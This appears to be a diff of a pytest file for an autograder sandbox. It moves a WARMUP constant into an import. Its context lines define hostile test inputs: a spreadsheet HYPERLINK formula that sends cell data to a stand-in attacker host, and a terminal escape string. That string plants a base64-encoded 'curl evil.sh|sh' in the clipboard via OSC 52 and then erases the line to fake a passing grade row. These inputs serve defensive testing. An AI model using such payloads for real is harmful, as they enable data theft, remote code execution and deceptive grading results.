@@ -20,9 +20,8 @@ import pytest
 
 from autograder.sandbox import bwrap_problem
 from tests.conftest import ROOT
-from tests.notebooks import cell, variant
+from tests.notebooks import WARMUP, cell, variant
 
-WARMUP = "00_warmup"
 FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no slash: a folder name
 ESCAPES = "osc\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\r\x1b[2Kzz_honest 4 of 4"  # OSC 52, then erase-line fakes a row
 NEWLINE = "new\nline"
